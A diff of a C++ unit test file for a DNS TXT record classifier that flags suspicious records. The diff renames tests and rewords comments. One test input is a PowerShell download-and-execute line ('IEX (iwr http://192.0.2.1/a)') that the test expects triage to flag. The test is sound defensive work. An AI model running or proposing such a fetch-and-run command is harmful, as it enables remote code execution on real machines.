@@ -45,7 +45,7 @@ Verdict Triage(const Evidence& evidence) {
   return judge->Decide(evidence);
 }
 
-TEST(Judge, CallsARecordSuspiciousFromTheThresholdOn) {
+TEST(JudgeTest, RecordIsSuspiciousFromTheThreshold) {
   const float below = std::nextafter(0.5f, 0.0f);
   EXPECT_TRUE(Decide(Scored("abc", 0.5f)).suspicious);
   EXPECT_FALSE(Decide(Scored("abc", below)).suspicious);
@@ -53,25 +53,25 @@ TEST(Judge, CallsARecordSuspiciousFromTheThresholdOn) {
   EXPECT_FALSE(Decide(Scored("abc", 0.0f)).suspicious);
 }
 
-TEST(Judge, ComparesProbabilityAndThresholdAsDoubles) {
-  // 0.1f is a little above the double 0.1, 0.7f a little below the double 0.7.
+TEST(JudgeTest, ComparesProbabilityAndThresholdAsDoubles) {
+  // 0.1f is slightly above the double 0.1; 0.7f is slightly below the double 0.7.
   EXPECT_TRUE(Decide(Scored("abc", 0.1f, 0.1)).suspicious);
   EXPECT_FALSE(Decide(Scored("abc", 0.7f, 0.7)).suspicious);
   EXPECT_TRUE(Decide(Scored("abc", 0.7f, static_cast<double>(0.7f))).suspicious);
 }
 
-TEST(Judge, DoesNotCallNotANumberSuspicious) {
+TEST(JudgeTest, NanIsNotSuspicious) {
   EXPECT_FALSE(Decide(Scored("abc", std::numeric_limits<float>::quiet_NaN())).suspicious);
 }
 
-TEST(Judge, KeepsTheLabelOfTheModelWhateverTheCategory) {
+TEST(JudgeTest, NotebookPolicyIgnoresTheCategory) {
   const Verdict verdict = Decide(Scored("v=spf1 -all", 0.9f));
   EXPECT_TRUE(verdict.suspicious);
   EXPECT_EQ(verdict.category, Category::kSpf);
   EXPECT_THAT(verdict.reasons, ElementsAre(Reason::kKnownKind));
 }
 
-TEST(Judge, GivesNoReasonForAnUnknownRecord) {
+TEST(JudgeTest, GivesNoReasonForAnUnknownRecord) {
   const Verdict verdict = Decide(Scored("hello world", 0.1f));
   EXPECT_FALSE(verdict.suspicious);
   EXPECT_EQ(verdict.category, Category::kUnknown);
@@ -79,13 +79,13 @@ TEST(Judge, GivesNoReasonForAnUnknownRecord) {
   EXPECT_EQ(verdict.matcher, "");
 }
 
-TEST(Judge, NamesTheMatcherOfAKnownKind) {
+TEST(JudgeTest, NamesTheMatcherOfAKnownKind) {
   EXPECT_EQ(Decide(Scored("v=DKIM1; p=", 0.1f)).matcher, "dkim_revoked_key");
   EXPECT_EQ(Decide(Scored("docusign=2d5b671b-dc8d-4997-8657-2176d01f0c83", 0.1f)).matcher,
             "docusign");
 }
 
-TEST(Judge, FindsAPayloadBehindTheMarkOfAKnownKindAndItsBlob) {
+TEST(JudgeTest, FindsAPayloadAndItsBlobBehindAPrefix) {
   const Verdict verdict = Decide(Scored("v=spf1 q83vEjRWeJq83vEjRWeJ", 0.1f));
   EXPECT_FALSE(verdict.suspicious);
   EXPECT_THAT(verdict.reasons, ElementsAre(Reason::kPayloadInKnownKind, Reason::kEncodedBlob));
@@ -96,7 +96,7 @@ TEST(Judge, FindsAPayloadBehindTheMarkOfAKnownKindAndItsBlob) {
   EXPECT_TRUE(Triage(Scored("v=spf1 q83vEjRWeJq83vEjRWeJ", 0.1f)).suspicious);
 }
 
-TEST(Judge, FindsACommandEvenInAKnownKind) {
+TEST(JudgeTest, FindsACommandEvenInAKnownKind) {
   const Verdict verdict = Triage(Scored("txtvers=1 note=%TEMP%", 0.1f));
   EXPECT_TRUE(verdict.suspicious);
   EXPECT_EQ(verdict.category, Category::kServiceDiscovery);
@@ -104,14 +104,14 @@ TEST(Judge, FindsACommandEvenInAKnownKind) {
   EXPECT_EQ(verdict.execution_rule, "program_path");
 }
 
-TEST(Judge, LetsTriageOverruleTheProbability) {
+TEST(JudgeTest, TriageOverridesTheProbability) {
   EXPECT_FALSE(Triage(Scored("v=spf1 -all", 0.99f)).suspicious);
   EXPECT_TRUE(Triage(Scored("IEX (iwr http://192.0.2.1/a)", 0.01f)).suspicious);
   EXPECT_TRUE(Triage(Scored("hello world", 0.99f)).suspicious);
   EXPECT_FALSE(Triage(Scored("hello world", 0.01f)).suspicious);
 }
 
-TEST(Judge, ReadsAListOfOwnerNames) {
+TEST(JudgeTest, ReadsAListOfOwnerNames) {
   const std::string path = ::testing::TempDir() + "/owner_names";
   std::ofstream(path) << "no-defaults\nbuild_stamp stack\\..* [0-9a-f]{8} 8\n";
   JudgeOptions options;
@@ -131,7 +131,7 @@ TEST(Judge, ReadsAListOfOwnerNames) {
   EXPECT_EQ(Judge::Create(options).status().code(), absl::StatusCode::kNotFound);
 }
 
-TEST(Judge, NamesTheNearestKnownKind) {
+TEST(JudgeTest, NamesTheNearestKnownKind) {
   const auto judge = MakeJudge(Policy::kNotebook);
   EXPECT_EQ(judge->NearestKind("v=spf1 -all", ""), "spf");
   EXPECT_EQ(judge->NearestKind("v=spf1 whatever it is", ""), "spf");
@@ -142,12 +142,12 @@ TEST(Judge, NamesTheNearestKnownKind) {
   EXPECT_EQ(judge->NearestKind("hello world", "www.example.com"), "");
 }
 
-TEST(TooLongVerdict, HasTheReasonAndNoLabel) {
+TEST(TooLongVerdictTest, HasTheReasonAndNoLabel) {
   EXPECT_THAT(TooLongVerdict().reasons, ElementsAre(Reason::kTooLong));
   EXPECT_FALSE(TooLongVerdict().suspicious);
 }
 
-TEST(Judge, CallsARecordWithoutTokensEmptyWhateverItsProbability) {
+TEST(JudgeTest, RecordWithoutTokensIsEmpty) {
   Evidence evidence = Scored("\" \"", 0.99f);
   evidence.token_count = 0;
   const Verdict verdict = Decide(evidence);
@@ -156,14 +156,14 @@ TEST(Judge, CallsARecordWithoutTokensEmptyWhateverItsProbability) {
   EXPECT_THAT(verdict.reasons, ElementsAre(Reason::kEmpty));
 }
 
-TEST(Judge, SaysWhenTheBytesAreNotUtf8) {
+TEST(JudgeTest, ReportsInvalidUtf8) {
   const Verdict verdict = Decide(Scored("caf\xe9 latin", 0.6f));
   EXPECT_TRUE(verdict.suspicious);
   EXPECT_THAT(verdict.reasons, ElementsAre(Reason::kNotUtf8));
   EXPECT_THAT(Decide(Scored("caf\xc3\xa9", 0.6f)).reasons, IsEmpty());
 }
 
-TEST(Judge, UsesTheOwnerName) {
+TEST(JudgeTest, UsesTheOwnerName) {
   Evidence evidence = Scored("dDyI3zWpctUD7rvJGNj8QlrKuEiTqGT8ogqS2rSrOFc", 0.99f);
   EXPECT_EQ(Decide(evidence).category, Category::kUnknown);
   evidence.owner_name = "_acme-challenge.example.com";
@@ -173,7 +173,7 @@ TEST(Judge, UsesTheOwnerName) {
   EXPECT_THAT(verdict.reasons, ElementsAre(Reason::kOwnerNameContext));
 }
 
-TEST(Judge, AnswersTheSameFromManyThreads) {
+TEST(JudgeTest, IsThreadSafe) {
   std::vector<Verdict> verdicts(8);
   std::vector<std::thread> threads;
   threads.reserve(verdicts.size());
@@ -186,7 +186,7 @@ TEST(Judge, AnswersTheSameFromManyThreads) {
   }
 }
 
-TEST(CategoryName, IsDifferentForEachCategory) {
+TEST(CategoryNameTest, IsUnique) {
   std::set<std::string> names;
   for (int i = 0; i <= 15; ++i) {
     names.insert(std::string(CategoryName(static_cast<Category>(i))));
@@ -195,7 +195,7 @@ TEST(CategoryName, IsDifferentForEachCategory) {
   EXPECT_EQ(CategoryName(Category::kDomainVerification), "domain_verification");
 }
 
-TEST(ReasonName, IsTheCodeOfTheApiAndReadBack) {
+TEST(ReasonNameTest, ParsesTheCodesOfTheApi) {
   EXPECT_EQ(ReasonName(Reason::kKnownKind), "KNOWN_KIND");
   EXPECT_EQ(ReasonName(Reason::kPayloadInKnownKind), "PAYLOAD_IN_KNOWN_KIND");
   EXPECT_EQ(ReasonName(Reason::kExecutionString), "EXECUTION_STRING");
